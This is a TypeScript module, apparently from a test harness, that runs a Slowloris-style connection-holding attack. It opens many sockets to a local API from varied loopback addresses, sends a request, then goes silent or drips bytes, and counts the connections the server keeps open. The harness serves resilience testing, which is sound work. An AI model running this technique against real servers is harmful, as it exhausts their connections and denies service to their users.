import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { type Attack, noDeeds } from './attack.ts';

interface Holding {
  port: number;
  sockets: number;
  /** Returns what a socket sends; it sends nothing else, unless `drips`, and reads nothing after a status of 200. */
  requestOf: (number: number) => string | Buffer;
  /** Whether each socket sends one more byte every two seconds. */
  drips?: boolean;
}

interface Slot {
  socket: Socket | null;
  sentAt: number | null;
  /** Whether the API ever refused or closed a socket of this slot. */
  wasEnded: boolean;
}

const addresses = 50;
const opensPerTick = 25;
const tickMilliseconds = 10;
const dripMilliseconds = 2_000;
/** A slot whose socket was refused or closed opens another one after this time. */
const reopenMilliseconds = 5_000;

/** Opens sockets that send a request and fall silent. */
export function holdSockets({ port, sockets, requestOf, drips = false }: Holding): Attack {
  const slots: Slot[] = [];
  const responses: Record<number, number> = {};
  const reopening = new Set<NodeJS.Timeout>();
  let isStopped = false;

  const open = (slot: Slot, number: number): void => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: `127.3.0.${1 + (number % addresses)}` });
    slot.socket = socket;
    const end = (status: number): void => {
      if (slot.socket !== socket || isStopped) return;
      responses[status] = (responses[status] ?? 0) + 1;
      slot.socket = null;
      slot.wasEnded = true;
      socket.destroy();
      const timer = setTimeout(() => {
        reopening.delete(timer);
        open(slot, number);
      }, reopenMilliseconds);
      reopening.add(timer);
    };
    socket.once('connect', () => {
      socket.write(requestOf(number));
      slot.sentAt = performance.now();
    });
    socket.once('data', (head: Buffer) => {
      const status = Number(/^HTTP\/1\.1 (\d+)/.exec(head.subarray(0, 20).toString('latin1'))?.[1] ?? 0);
      if (status !== 200) return end(status);
      if (slot.socket === socket) responses[200] = (responses[200] ?? 0) + 1;
      socket.pause();
    });
    socket.on('error', () => end(0));
    socket.once('close', () => end(0));
  };

  const opening = setInterval(() => {
    for (let opened = 0; opened < opensPerTick && slots.length < sockets; opened += 1) {
      const slot: Slot = { socket: null, sentAt: null, wasEnded: false };
      slots.push(slot);
      open(slot, slots.length - 1);
    }
  }, tickMilliseconds);
  const dripping = setInterval(() => {
    if (drips) for (const { socket, sentAt } of slots) if (sentAt !== null) socket?.write('a');
  }, dripMilliseconds);

  return {
    stop: async () => {
      isStopped = true;
      clearInterval(opening);
      clearInterval(dripping);
      for (const timer of reopening) clearTimeout(timer);
      const established = establishedTo(port);
      // A socket that reads nothing does not notice when the API closes it, so the kernel is asked.
      const held = slots.filter(
        ({ socket, sentAt, wasEnded }) =>
          socket && sentAt !== null && !wasEnded && established.has(addressOf(socket.localAddress, socket.localPort)),
      );
      const heldSeconds = held.map(({ sentAt }) => (performance.now() - (sentAt ?? 0)) / 1000);
      const sent = slots.filter(({ sentAt }) => sentAt !== null);
      for (const { socket } of slots) socket?.destroy();
      return {
        ...noDeeds,
        held: held.length,
        heldSeconds: held.length === 0 ? 0 : Math.min(...heldSeconds),
        ended: sent.length - held.length,
        responses,
        addresses: Math.min(addresses, slots.length),
      };
    },
  };
}

/** Returns the local addresses of all connections to this port that neither side has closed. */
function establishedTo(port: number): Set<string> {
  const lines = readFileSync('/proc/net/tcp', 'latin1').split('\n').slice(1);
  const remote = `:${port.toString(16).toUpperCase().padStart(4, '0')}`;
  return new Set(
    lines.flatMap((line) => {
      const [, local = '', peer = '', state] = line.trim().split(/\s+/);
      return state === '01' && peer.endsWith(remote) ? [local] : [];
    }),
  );
}

/** Writes an address as /proc/net/tcp does: the bytes of the address in reverse, in hexadecimal. */
function addressOf(address = '0.0.0.0', port = 0): string {
  const hex = (value: number, digits: number): string => value.toString(16).toUpperCase().padStart(digits, '0');
  const bytes = address.split('.').map((byte) => hex(Number(byte), 2));
  return `${bytes.toReversed().join('')}:${hex(port, 4)}`;
}
